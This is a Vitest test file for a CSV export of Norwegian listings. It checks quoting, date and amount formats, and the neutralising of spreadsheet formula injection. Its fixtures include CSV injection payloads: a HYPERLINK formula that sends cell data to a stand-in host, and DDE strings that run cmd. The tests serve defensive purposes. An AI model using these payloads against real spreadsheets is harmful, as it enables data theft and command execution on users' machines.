import { describe, expect, test } from 'vitest';
import type { Listing } from './listing';
import { listingTable } from './listing-table';

const EDITION = {
  locale: 'nb',
  kinds: { role: 'Rolle', challenge: 'Utfordring', pilot: 'Pilot', call: 'Støtteordning' },
} as const;

function aListing(changed: Partial<Listing>): Listing {
  return {
    ...{ id: 'role_1', kind: 'role', url: 'https://koble.example/roller/1', title: 'Sveiser' },
    ...{ summary: '', organisation: 'Smia AS', municipality: { id: '5037', name: 'Levanger' } },
    ...{ km: null, skills: [], occupations: [], mode: [], extent: [], purposes: [] },
    ...{ instrument: null, publishedAt: '2026-11-20T23:30:00.000Z', deadline: null },
    ...{ amountOre: 1_250_050, capacity: 1 },
    ...changed,
  };
}

function lineOf(changed: Partial<Listing>): string {
  return listingTable([aListing(changed)], EDITION).split('\r\n')[1] ?? '';
}

describe('a table of listings', () => {
  test('begins with the byte order mark and the headings, and ends each line as RFC 4180 has it', () => {
    const table = listingTable([aListing({})], EDITION);
    expect(table).toMatch(/^\uFEFFTittel,Type,Organisasjon,Sted,Publisert,Frist,Beløp i kroner,/);
    expect(table.split('\r\n')).toHaveLength(3);
    expect(table.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  test('has days as Norway has them, and amounts in kroner', () => {
    expect(lineOf({})).toContain('Sveiser,Rolle,Smia AS,Levanger,2026-11-21,,12500.5,');
  });

  test('keeps commas, quotes and line ends inside their cell', () => {
    expect(lineOf({ title: 'Sveiser, "robot"' })).toMatch(/^"Sveiser, ""robot""",Rolle,/);
  });

  test.each([
    '=HYPERLINK("https://evil.example?x="&A1,"Klikk")',
    "=cmd|' /C calc'!A0",
    '+1+cmd|calc',
    '-2+3',
    '@SUM(1+1)*cmd|calc',
    '\t=1+1',
    '\r=1+1',
  ])('gives no spreadsheet a formula to run: %j', (title) => {
    const [cell = ''] = lineOf({ title }).match(/^"(?:[^"]|"")*"|^[^,]*/) ?? [];
    expect(cell.replace(/^"/, '')).toMatch(/^'/);
    expect(cell).toContain(title.trim().replaceAll('"', '""'));
  });

  test('defuses every column that somebody may write in', () => {
    const line = lineOf({ title: '=1', organisation: '=2', summary: '=3' });
    expect(line.match(/'=/g)).toHaveLength(3);
  });
});
